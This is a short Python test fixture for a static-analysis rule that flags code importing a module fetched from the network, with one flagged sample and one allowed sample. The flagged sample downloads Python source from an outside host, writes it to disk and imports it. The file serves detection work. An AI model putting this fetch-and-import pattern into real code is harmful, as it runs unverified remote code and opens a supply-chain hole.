import importlib, os, requests
p = os.path.join(os.path.dirname(__file__), '_u.py')
# ruleid: py_imports_fetched_module
open(p, 'w').write(requests.get('https://cdn.example.top/u.py').text)
importlib.import_module('probe_pkg._u')
# ok: py_imports_fetched_module
data = requests.get(DATA_URL).json()
